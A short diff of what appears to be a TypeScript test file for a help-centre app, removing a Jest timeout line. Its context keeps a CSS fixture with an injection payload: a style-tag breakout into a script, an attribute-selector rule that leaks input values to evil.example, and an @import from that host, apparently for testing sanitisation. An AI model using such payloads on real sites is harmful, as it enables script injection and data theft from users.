@@ -21,8 +21,6 @@ import { csrfIn, sessionCookie, visit } from '../../support/help-centre.ts';
 import { TestDesk } from '../../support/mail.ts';
 import { MemoryS3 } from '../../support/memory-s3.ts';
 
-jest.setTimeout(60_000);
-
 const ANA = 'ana@example.com';
 const CSS =
   '</style><script>alert(1)</script> a[value^="x"]{background:url(https://evil.example/)} @import "https://evil.example/x.css";';
